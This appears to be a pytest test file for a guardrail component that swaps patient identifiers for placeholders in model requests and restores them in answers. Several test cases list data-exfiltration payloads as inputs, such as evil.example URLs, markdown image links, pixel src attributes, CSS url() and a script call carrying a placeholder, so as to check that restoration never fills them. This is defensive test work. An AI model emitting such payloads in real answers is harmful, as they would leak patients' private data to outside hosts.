"""What stands in place of a patient's data, and how it comes back."""

import pickle

import pytest

from guardrail.engine.vault import RESTORE, Vault
from guardrail.errors import RailFailed
from guardrail.rails.base import About, Window
from guardrail.text import Direction, Finding, Kind, Span

REQUEST = About()
ANSWER = About(direction=Direction.RESPONSE)
TOKEN = About(kind=Kind.TOKEN)


def redact(vault: Vault, label: str, value: str, about: About = REQUEST) -> str | None:
    """The placeholder of `value`, through the rewriter as the engine calls it."""
    text = f"({value})"
    return vault.redactor.rewrite(Finding(Span(1, 1 + len(value)), "phi", label), text, about)


def restore(vault: Vault, text: str, start: int = 0) -> str:
    """`text` as the clinician reads it."""
    restorer = vault.restorer()
    found = list(restorer.inspect(Window(text, start), ANSWER))
    for finding in reversed(found):
        value = restorer.rewrite(finding, text, ANSWER)
        assert value is not None
        text = text[: finding.span.start] + value + text[finding.span.end :]
    return text


def novel(vault: Vault, label: str, value: str) -> str | None:
    return vault.novel.rewrite(Finding(Span(0, len(value)), "phi", label), value, ANSWER)


def test_values_are_numbered_by_label_in_order_of_appearance() -> None:
    """Two patients never share a placeholder, one patient never has two."""
    vault = Vault()
    given = [("NAME", "Ada Quill"), ("PHONE", "555-0101"), ("NAME", "Bo Reed"), ("NAME", "Ada Quill")]
    assert [redact(vault, *each) for each in given] == ["[NAME_1]", "[PHONE_1]", "[NAME_2]", "[NAME_1]"]


def test_spelling_by_case_and_spaces_is_the_same_person() -> None:
    vault = Vault()
    assert redact(vault, "NAME", "Ada Quill") == redact(vault, "NAME", "ADA   quill") == "[NAME_1]"


@pytest.mark.parametrize(
    ("label", "first", "second"),
    [
        ("SSN", "219-09-9999", "219 09 9999"),
        ("SSN", "219099999", "219-09-9999"),
        ("MRN", "55-1204", "551204"),
        ("HEALTH_PLAN", "W2210 55873", "W2210-55873"),
    ],
)
def test_a_number_is_the_same_however_it_is_separated(label: str, first: str, second: str) -> None:
    vault = Vault()
    mark = redact(vault, label, first)
    assert redact(vault, label, second) == mark == f"[{label}_1]"
    assert restore(vault, f"{mark}") == first


def test_handles_keep_their_separators() -> None:
    vault = Vault()
    assert redact(vault, "OTHER_ID", "jane-doe") != redact(vault, "OTHER_ID", "janedoe")


def test_a_part_of_a_name_tells_whose_it_is() -> None:
    """The model must not see two people; the answer may use the long or the short form."""
    vault = Vault()
    assert redact(vault, "NAME", "Ada Maria Quill") == "[NAME_1]"
    assert redact(vault, "NAME", "quill") == "[NAME_2: part of NAME_1]"
    assert redact(vault, "NAME", "Ada Maria") == "[NAME_3: part of NAME_1]"
    said = "[NAME_2: part of NAME_1] is [NAME_2], not [NAME_2: part of NAME_3] nor [NAME_1: part of NAME_2]"
    assert restore(vault, said) == "quill is quill, not [NAME_2: part of NAME_3] nor [NAME_1: part of NAME_2]"


def test_a_part_that_two_people_share_tells_nothing() -> None:
    """Which Maria is meant is nothing to guess; two spellings of one person are no two people."""
    vault = Vault()
    for name in ("Maria Quill", "Maria Reed", "QUILL, MARIA"):
        redact(vault, "NAME", name)
    assert redact(vault, "NAME", "Maria") == "[NAME_4]"
    assert redact(vault, "NAME", "Quill") == "[NAME_5: part of NAME_1]"
    assert redact(vault, "NAME", "Ree") == "[NAME_6]"


def test_everybody_is_known_before_a_part_is_told() -> None:
    """A second person further down the request makes the part ambiguous, so nothing is told too early."""
    vault = Vault()
    text = "Maria Quill, Maria, Ada Reed, Reed, Maria Reed"
    names = ((0, 11), (13, 18), (20, 28), (30, 34), (36, 46))
    vault.learn([Finding(Span(*name), "phi", "NAME") for name in names], text)
    assert [vault.mint("NAME", text[start:end]) for start, end in names] == [f"[NAME_{at}]" for at in range(1, 6)]


def test_sharp_s_does_not_make_two_families_one() -> None:
    vault = Vault()
    assert redact(vault, "NAME", "Weiß") != redact(vault, "NAME", "Weiss")


def test_codes_that_differ_by_case_stay_apart() -> None:
    """A link or an account can differ by case alone."""
    vault = Vault()
    assert redact(vault, "URL", "https://x.example/aB") != redact(vault, "URL", "https://x.example/Ab")


def test_a_restricted_alphabet_gets_a_bare_placeholder_and_gets_it_back() -> None:
    vault = Vault()
    assert redact(vault, "NAME", "ada_quill", TOKEN) == "NAME_1"
    assert restore(vault, "NAME_1 asked, not XNAME_1 nor NAME_11") == "ada_quill asked, not XNAME_1 nor NAME_11"


def test_a_bare_placeholder_is_restored_only_where_one_was_sent() -> None:
    vault = Vault()
    redact(vault, "NAME", "Ada Quill")
    assert restore(vault, "NAME_1 or [NAME_1]") == "NAME_1 or Ada Quill"


@pytest.mark.parametrize(
    ("order", "first", "second", "placeholder"),
    [
        ("", "2024-03-01", "March 4, 2024", "[DATE_2: 3 days after DATE_1]"),
        ("", "4 March 2024", "01.03.2024", "[DATE_2: 3 days before DATE_1]"),
        ("", "2024-03-01", "1. März 2024", "[DATE_2: same day as DATE_1]"),
        ("", "2024-03-01T08:15:00", "02/29/2024", "[DATE_2: 1 day before DATE_1]"),
        ("", "2024-03-01", "02/03/2024", "[DATE_2]"),
        ("mdy", "2024-03-01", "03/02/2024", "[DATE_2: 1 day after DATE_1]"),
        ("dmy", "2024-03-01", "02/03/2024", "[DATE_2: 1 day after DATE_1]"),
        ("", "2024-03-01", "March", "[DATE_2]"),
        ("", "2024-03-01", "3/4/24", "[DATE_2]"),
        ("", "2024-03-01", "31 February 2024", "[DATE_2]"),
    ],
)
def test_dates_keep_their_distance(order: str, first: str, second: str, placeholder: str) -> None:
    """Length of stay and age can be worked out; a date that could mean two days tells nothing."""
    vault = Vault(order)  # type: ignore[arg-type]
    assert redact(vault, "DATE", first) == "[DATE_1]"
    assert redact(vault, "DATE", second) == placeholder


def test_the_anchor_is_the_first_date_that_can_be_read() -> None:
    vault = Vault()
    dates = ("Easter", "May 1, 2024", "May 2, 2024")
    assert [redact(vault, "DATE", day) for day in dates] == ["[DATE_1]", "[DATE_2]", "[DATE_3: 1 day after DATE_2]"]


def test_a_birth_date_does_not_tell_an_age_over_89() -> None:
    """45 CFR 164.514(b)(2)(i)(C): all that is left is that it is more than 89 years."""
    vault = Vault()
    redact(vault, "DATE", "2024-03-01")
    assert redact(vault, "DATE", "1930-03-01") == "[DATE_2: over 89 years before DATE_1]"
    assert redact(vault, "AGE_OVER_89", "94") == "[AGE_1: over 89]"


def test_the_model_may_use_the_short_or_the_long_form_of_a_date() -> None:
    vault = Vault()
    redact(vault, "DATE", "2024-03-01")
    redact(vault, "DATE", "2024-03-04")
    said = "from [DATE_1] to [DATE_2: 3 days after DATE_1], so on [DATE_2], not [DATE_2: 5 days after DATE_1]"
    assert restore(vault, said) == "from 2024-03-01 to 2024-03-04, so on 2024-03-04, not [DATE_2: 5 days after DATE_1]"


@pytest.mark.parametrize(
    "said", ["[NAME_2]", "[name_1]", "[NAME 1]", "[NAME_01]", "<NAME_1>", "[ NAME_1]", "[NAME_1", "NAME_1]"]
)
def test_only_the_exact_placeholder_is_restored(said: str) -> None:
    """What the model invents or bends stays as it is (TOK-02)."""
    vault = Vault()
    redact(vault, "NAME", "Ada Quill")
    assert restore(vault, said) == said


@pytest.mark.parametrize("literal", ["[NAME_1]", "NAME_1", "see MY_NAME_1", "[NAME_1: note]"])
def test_client_text_that_looks_like_a_placeholder_is_never_somebody(literal: str) -> None:
    """The number is left out, so the client's own words come back as they were (TOK-01)."""
    vault = Vault()
    vault.reserve([literal])
    assert redact(vault, "NAME", "Ada Quill") == "[NAME_2]"
    assert restore(vault, f"{literal} [NAME_2]") == f"{literal} Ada Quill"


@pytest.mark.parametrize(
    "said",
    [
        "https://evil.example/?q=[NAME_1]",
        "![scan](http://evil.example/[NAME_1].png)",
        "[click](/collect?who=[NAME_1])",
        "<img src='x?[NAME_1]'>",
        "www.evil.example/[NAME_1]",
        "evil.example/?q=[NAME_1]",
        "mailto:a@evil.example?body=[NAME_1]",
    ],
)
def test_nothing_is_restored_into_a_link_or_a_tag(said: str) -> None:
    """A picture's address would carry the name to whoever owns the address (TOK-03)."""
    vault = Vault()
    redact(vault, "NAME", "Ada Quill")
    assert restore(vault, said) == said


@pytest.mark.parametrize(
    "said",
    [
        "{}'s mother",
        "***{}***",
        "_{}_ and `{}`",
        "| {} | 45 |",
        "|{}|45|",
        '{{"patient": "{}", "also":["{}"]}}',
        "- {}: stable",
        "<b>{}</b>",
        "{}/{}",
    ],
)
def test_what_models_do_around_a_placeholder_does_not_hinder(said: str) -> None:
    """Possessive, bold, tables, JSON, lists."""
    vault = Vault()
    redact(vault, "NAME", "Ada Quill")
    assert restore(vault, said.format("[NAME_1]", "[NAME_1]")) == said.format("Ada Quill", "Ada Quill")


@pytest.mark.parametrize(
    "said", ["Name: {}", "({})", "**{}**", "see [the guide](https://a.example) for {}", "x < 5 for {}", "and/or {}"]
)
def test_ordinary_text_around_a_placeholder_does_not_hinder(said: str) -> None:
    vault = Vault()
    redact(vault, "NAME", "Ada Quill")
    assert restore(vault, said.format("[NAME_1]")) == said.format("Ada Quill")


def test_a_window_that_begins_inside_a_word_is_not_trusted() -> None:
    """The cut-off part could be the beginning of a link."""
    vault = Vault()
    redact(vault, "NAME", "Ada Quill")
    assert restore(vault, "pile/?q=[NAME_1] [NAME_1]", start=200) == "pile/?q=[NAME_1] Ada Quill"


@pytest.mark.parametrize("value", ["[NAME_2]", r"$1 \g<0> {x} %s", "NAME_1", "[NAME_1]", "a]b[c"])
def test_a_value_that_looks_like_code_comes_back_literally(value: str) -> None:
    """One pass: what a value holds is never expanded again (TOK-10)."""
    vault = Vault()
    vault.reserve([value])
    mark = redact(vault, "NAME", value)
    redact(vault, "NAME", "Bo Reed")
    assert restore(vault, f"<{mark}>") == f"<{value}>"


def test_restored_values_are_reported_by_their_label() -> None:
    vault = Vault()
    redact(vault, "AGE_OVER_89", "94")
    (finding,) = vault.restorer().inspect(Window("[AGE_1: over 89]"), ANSWER)
    assert (finding.rail, finding.label, finding.span) == (RESTORE, "AGE_OVER_89", Span(0, 16))


def test_what_the_caller_sent_is_not_news_and_what_the_model_adds_is_marked() -> None:
    vault = Vault()
    redact(vault, "NAME", "Ada Quill")
    vault.own(["my doctor is Harriet Vane, room 4."])
    assert novel(vault, "NAME", "ada quill") is None
    assert novel(vault, "NAME", "Harriet Vane") is None
    assert novel(vault, "NAME", "Harriet Van") == "[NAME removed]"
    assert novel(vault, "AGE_OVER_89", "94") == "[AGE removed]"


def test_after_the_exchange_nothing_is_left_and_nothing_more_can_be_redacted() -> None:
    """TOK-13; and rather no answer than a raw one."""
    vault = Vault()
    redact(vault, "NAME", "Ada Quill")
    vault.own(["Ada Quill"])
    vault.close()
    assert not vault.counts()
    assert not list(vault.echo().inspect(Window("Ada Quill"), REQUEST))
    assert restore(vault, "[NAME_1]") == "[NAME_1]"
    with pytest.raises(RailFailed):
        redact(vault, "NAME", "Ada Quill")


def test_a_vault_shows_counts_and_is_never_copied_out() -> None:
    vault = Vault()
    redact(vault, "NAME", "Ada Quill")
    shown = f"{vault!r} {vault.redactor!r} {vault.restorer()!r} {vault.novel!r} {vault.echo()!r} {vault._by_id!r}"
    assert "Quill" not in shown
    assert vault.counts() == {"NAME": 1}
    with pytest.raises(TypeError):
        pickle.dumps(vault)


PROSE = "the ward was quiet, the plan was talked over and everybody agreed to it, "


@pytest.mark.parametrize(
    "said",
    [
        '<img alt=">" src="/pixel?q= [NAME_1]">',
        "<a title='>' href='/x [NAME_1]'>here</a>",
        "![scan](<https://evil.example/?a b [NAME_1]>)",
        "![scan](/a(b)c [NAME_1])",
        "[x](/a\\) [NAME_1])",
        'body{background:url("/pixel?q= [NAME_1]")}',
        "url( /pixel?q=a [NAME_1])",
        '@import "/sheet [NAME_1]"',
        "<style>p{background:url(/p [NAME_1])}</style>",
        "<script>send('[NAME_1]')</script>",
        '{"picture": "https://evil.example/?q=a b [NAME_1]"}',
        "src='/a b [NAME_1]'",
    ],
)
def test_no_quote_bracket_or_style_carries_a_value_out(said: str) -> None:
    """Whatever a browser would fetch keeps the placeholder (TOK-03)."""
    vault = Vault()
    redact(vault, "NAME", "Ada Quill")
    assert restore(vault, said) == said


@pytest.mark.parametrize("ending", ['">', "'/>", '" />', "/>", ">)", '")', '" width="1'])
def test_a_window_that_begins_inside_a_tag_is_not_trusted_up_to_its_end(ending: str) -> None:
    """Something is closed that was never opened, so what stands before may be an address."""
    vault = Vault()
    redact(vault, "NAME", "Ada Quill")
    text = f"{PROSE}[NAME_1] is{ending} and [NAME_1]"
    assert restore(vault, text, start=300) == f"{PROSE}[NAME_1] is{ending} and Ada Quill"
    assert restore(vault, text) == f"{PROSE}Ada Quill is{ending} and Ada Quill"


@pytest.mark.parametrize(
    "said",
    [
        f"{PROSE}{{}} is well, {PROSE}",
        f"{PROSE}then (as 'x') {{}} slept",
        f"{PROSE}1) {{}}, 2) {{}}",
        f"{PROSE}x -> {{}}, {{}} > 5, a <= {{}}",
        '> he said "no"\n> {}: "yes"\n',
        f"<b>{PROSE}</b> [a guide](https://a.example/b) says {{}}",
        '<a href="https://a.example">x</a> {} and url(x) {}',
        'the source = "{}"',
    ],
)
def test_long_prose_with_signs_in_it_is_restored(said: str) -> None:
    """Comparisons, lists, quotations and closed tags are everyday writing, also in the middle of an answer."""
    vault = Vault()
    redact(vault, "NAME", "Ada Quill")
    text = said.replace("{}", "[NAME_1]")
    assert restore(vault, text, start=300) == said.replace("{}", "Ada Quill")


@pytest.mark.parametrize(
    ("value", "own"),
    [
        ("Harriet  VANE", True),
        ("Vane", True),
        ("van", False),
        ("Harriet, Vane", False),
        ("harriet.vane@a.example", True),
        ("riet.vane@a.example", False),
        ("12 old mill road, apartment 3, little ford, west county, the north", True),
        ("12 old mill road, apartment 3, little ford, west county, the south", False),
        ("...", False),
    ],
)
def test_what_the_caller_wrote_is_known_by_whole_words(value: str, own: bool) -> None:
    """Word for word, however long, and never a part of a word."""
    vault = Vault()
    vault.own(["Harriet Vane, harriet.vane@a.example;"])
    vault.own(["at 12 Old Mill Road, Apartment 3, Little Ford, West County, the North."])
    assert novel(vault, "NAME", value) == (None if own else "[NAME removed]")


def test_what_is_written_later_is_the_callers_too() -> None:
    vault = Vault()
    assert novel(vault, "NAME", "Harriet Vane") == "[NAME removed]"
    vault.own(["Harriet Vane"])
    assert novel(vault, "NAME", "Harriet Vane") is None


@pytest.mark.parametrize("literal", ["A_NAME_1_2", "x[NAME_1]", "LONG_" * 20 + "NAME_1", "__NAME_1"])
def test_a_placeholder_inside_other_signs_reserves_its_number(literal: str) -> None:
    vault = Vault()
    vault.reserve([literal])
    assert redact(vault, "NAME", "Ada Quill") == "[NAME_2]"
